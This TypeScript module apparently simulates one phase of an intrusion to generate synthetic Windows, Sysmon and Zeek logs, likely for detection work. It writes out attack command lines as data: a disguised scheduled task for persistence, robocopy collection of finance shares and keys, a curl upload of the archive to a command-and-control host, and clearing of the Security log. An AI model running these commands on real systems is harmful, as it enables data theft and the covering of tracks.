import { domainSid } from '../company.js';
import { visit, zeekConnection, zeekLog } from '../network-events.js';
import { COMMAND_AND_CONTROL } from '../sites.js';
import { fileCreated } from '../sysmon-events.js';
import { SYSTEM, type WindowsProcess } from '../windows-process.js';
import { loggedOn, securityEvent, serviceInstalled } from '../windows-log-events.js';
import { SYSTEM32 } from '../windows-programs.js';
import type { World } from '../world.js';
import type { IntrusionCast, PlannedStep } from './intrusion-plan.js';

const ARCHIVE = 'C:\\PerfLogs\\fin.rar';

function toolPath({ tool }: IntrusionCast): string {
  return `C:\\Windows\\${tool}.exe`;
}

/** The intruder's tool on the file server, running as a service. */
function tool(world: World, cast: IntrusionCast): WindowsProcess {
  return world.windows(cast.fileServer).running(toolPath(cast));
}

function passHash(world: World, time: number, cast: IntrusionCast): void {
  const port = world.random.int(49_152, 65_535);
  world.emit(
    time,
    'windows',
    loggedOn(cast.fileServer, time, {
      account: 'Administrator',
      sid: domainSid(500),
      logonId: world.newLogonId(),
      type: 3,
      package: 'NTLM',
      from: { address: cast.workstation.address, port, workstation: cast.workstation.name },
    }),
  );
  const exchange = {
    from: cast.workstation.address,
    to: cast.fileServer.address,
    port: 445,
    sourcePort: port,
    service: 'smb',
    sent: 131_072,
    lasted: 95_000,
  };
  zeekConnection(world, time + 1, exchange);
}

function createService(world: World, time: number, cast: IntrusionCast): void {
  const { fileServer, workstation } = cast;
  const host = world.windows(fileServer);
  const id = zeekConnection(world, time + 10, {
    from: workstation.address,
    to: fileServer.address,
    port: 445,
    service: 'smb',
    sent: 74_120,
    lasted: 4_000,
  });
  const program = `${cast.tool}.exe`;
  world.emit(
    time,
    'windows',
    securityEvent(fileServer, time, 5145, {
      SubjectUserSid: domainSid(500),
      SubjectUserName: 'Administrator',
      SubjectDomainName: 'ACME',
      ShareName: '\\\\*\\ADMIN$',
      ShareLocalPath: '\\??\\C:\\Windows',
      RelativeTargetName: program,
      AccessMask: '0x2',
      IpAddress: workstation.address,
      IpPort: String(id['id.orig_p']),
    }),
  );
  zeekLog(world, time + 60, 'smb_files', { ...id, action: 'SMB::FILE_OPEN', path: '\\\\fs01\\ADMIN$', name: program, size: 61_440 });
  world.emit(time + 90, 'sysmon', fileCreated(fileServer, time + 90, host.running('System'), toolPath(cast)));
  zeekLog(world, time + 600, 'dce_rpc', {
    ...id,
    rtt: 0.0014,
    named_pipe: '\\pipe\\svcctl',
    endpoint: 'svcctl',
    operation: 'CreateServiceW',
  });
  world.emit(
    time + 700,
    'windows',
    serviceInstalled(fileServer, time + 700, { name: cast.tool, path: toolPath(cast), start: 'demand start' }),
  );
  host.start(time + 1_200, { image: toolPath(cast), commandLine: toolPath(cast), parent: host.services(), stays: true });
  host.start(time + 40_000, { image: `${SYSTEM32}cmd.exe`, commandLine: `${SYSTEM32}cmd.exe /c net session`, parent: tool(world, cast) });
}

function scheduleTask(world: World, time: number, cast: IntrusionCast): void {
  world.windows(cast.fileServer).start(time, {
    image: `${SYSTEM32}schtasks.exe`,
    commandLine: `schtasks /create /f /tn "\\Microsoft\\Windows\\Telemetry\\CacheSync" /sc hourly /ru SYSTEM /tr "C:\\ProgramData\\${cast.tool}.exe"`,
    parent: tool(world, cast),
  });
}

function collect(world: World, time: number, cast: IntrusionCast): void {
  const host = world.windows(cast.fileServer);
  const shell = host.start(time, {
    image: `${SYSTEM32}cmd.exe`,
    commandLine: `${SYSTEM32}cmd.exe /c dir /s /b D:\\Shares\\finance`,
    parent: tool(world, cast),
  });
  for (const [each, folder] of ['finance\\2026', 'finance\\treasury', 'it\\keys'].entries()) {
    host.start(time + 120_000 * (each + 1), {
      image: `${SYSTEM32}Robocopy.exe`,
      commandLine: `robocopy D:\\Shares\\${folder} C:\\PerfLogs\\${each} /E /R:0 /NFL`,
      parent: shell,
    });
  }
}

function pack(world: World, time: number, cast: IntrusionCast): void {
  const host = world.windows(cast.fileServer);
  const packer = host.start(time, {
    image: 'C:\\PerfLogs\\rar.exe',
    commandLine: `rar.exe a -hpW1nter26 -m3 -v40m ${ARCHIVE} C:\\PerfLogs\\0 C:\\PerfLogs\\1`,
    parent: tool(world, cast),
    originalName: 'rar.exe',
  });
  for (const part of [1, 2]) {
    const written = time + part * 50_000;
    world.emit(written, 'sysmon', fileCreated(cast.fileServer, written, packer, ARCHIVE.replace('.rar', `.part${part}.rar`)));
  }
}

function upload(world: World, time: number, cast: IntrusionCast): void {
  const host = world.windows(cast.fileServer);
  for (const part of [1, 2]) {
    const start = time + (part - 1) * 140_000;
    const process = host.start(start, {
      image: `${SYSTEM32}curl.exe`,
      commandLine: `curl.exe -k -s -T ${ARCHIVE.replace('.rar', `.part${part}.rar`)} https://${COMMAND_AND_CONTROL.domain}/u/${part}`,
      parent: tool(world, cast),
      session: SYSTEM,
    });
    visit(world, start + 300, {
      machine: cast.fileServer,
      process,
      site: COMMAND_AND_CONTROL,
      cached: part > 1,
      sent: 41_943_040 - part * 7_340_032,
      received: 900,
      lasted: 118_000,
    });
  }
}

function clearLogs(world: World, time: number, cast: IntrusionCast): void {
  world
    .windows(cast.fileServer)
    .start(time, { image: `${SYSTEM32}wevtutil.exe`, commandLine: 'wevtutil cl Security', parent: tool(world, cast) });
  world.emit(time + 400, 'windows', {
    ...securityEvent(cast.fileServer, time + 400, 1102, {
      SubjectUserName: `${cast.fileServer.name}$`,
      SubjectDomainName: 'ACME',
      SubjectLogonId: '0x3e7',
    }),
    SourceName: 'Microsoft-Windows-Eventlog',
  });
}

const ON_SERVER = { host: 'file server', user: 'system' } as const;

/** From the stolen hash to the upload and the cleared log, on the file server. */
export const FILE_SERVER: readonly PlannedStep[] = [
  {
    host: 'file server',
    user: 'administrator',
    step: 'pass-the-hash',
    minute: 682,
    technique: 'T1550.002',
    tactic: 'lateral-movement',
    act: passHash,
    description: 'The administrator logs on to the file server from the workstation, with NTLM',
  },
  {
    host: 'file server',
    user: 'administrator',
    step: 'remote-service',
    minute: 684,
    technique: 'T1569.002',
    tactic: 'execution',
    act: createService,
    description: 'A program is copied over the admin share and started as a service',
  },
  {
    ...ON_SERVER,
    step: 'scheduled-task',
    minute: 691,
    technique: 'T1053.005',
    tactic: 'persistence',
    act: scheduleTask,
    description: 'A scheduled task starts the program every hour',
  },
  {
    ...ON_SERVER,
    step: 'collection',
    minute: 790,
    technique: 'T1039',
    tactic: 'collection',
    act: collect,
    description: 'Finance data and keys are gathered from the shares',
  },
  {
    ...ON_SERVER,
    step: 'archive',
    minute: 842,
    technique: 'T1560.001',
    tactic: 'collection',
    act: pack,
    description: 'The data is packed into an archive with a password',
  },
  {
    ...ON_SERVER,
    step: 'exfiltration',
    minute: 888,
    technique: 'T1041',
    tactic: 'exfiltration',
    act: upload,
    description: 'The archive is uploaded to the command and control server',
  },
  {
    ...ON_SERVER,
    step: 'log-clearing',
    minute: 911,
    technique: 'T1685.005',
    tactic: 'defense-impairment',
    act: clearLogs,
    description: 'The security log of the file server is cleared',
  },
];
